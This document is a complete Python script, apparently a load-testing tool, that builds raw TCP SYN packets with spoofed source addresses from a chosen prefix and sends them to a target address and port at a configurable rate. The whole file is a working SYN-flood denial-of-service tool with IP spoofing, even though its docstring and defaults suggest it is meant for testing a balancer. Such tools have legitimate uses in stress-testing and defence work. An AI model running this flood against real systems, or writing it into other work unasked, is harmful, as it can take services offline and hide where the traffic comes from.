#!/usr/bin/python3
"""Send TCP SYNs from spoofed sources to ADDR:PORT at RATE per second.

  syn_flood.py --addr 192.0.2.10 --port 80 --rate 6500 --seconds 20 \
      --sources 10.99.0.0/16

Each SYN comes from another (address, port) of the --sources prefix, so each
one is a new connection to a balancer. A raw socket (IP_HDRINCL, root);
the kernel fills in the IPv4 checksum, the TCP checksum is computed here.
Prints {"sent":N,"seconds":S,"rate":R}.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src: int, sport: int, dst: int, dport: int, seq: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!IIBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBHII", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--addr", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--rate", type=float, default=6500.0)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--sources", default="10.99.0.0/16")
    ap.add_argument("--distinct", type=int, default=65536,
                    help="distinct (source, port) pairs, reused in turn")
    args = ap.parse_args()
    net = ipaddress.ip_network(args.sources)
    dst = int(ipaddress.ip_address(args.addr))
    rng = random.Random(20)
    packets = []
    for _ in range(args.distinct):
        src = int(net.network_address) + rng.randrange(1, net.num_addresses - 1)
        packets.append(syn(src, rng.randrange(1024, 65535), dst, args.port, rng.getrandbits(32)))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    target = (args.addr, 0)
    sent = 0
    start = time.monotonic()
    end = start + args.seconds
    i = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * args.rate) - sent
        if due <= 0:
            time.sleep(0.001)
            continue
        for _ in range(min(due, 1000)):
            try:
                s.sendto(packets[i], target)
                sent += 1
            except OSError:
                pass  # a full queue: the rate says how many got out
            i = (i + 1) % len(packets)
    seconds = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(seconds, 3), "rate": round(sent / seconds)}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
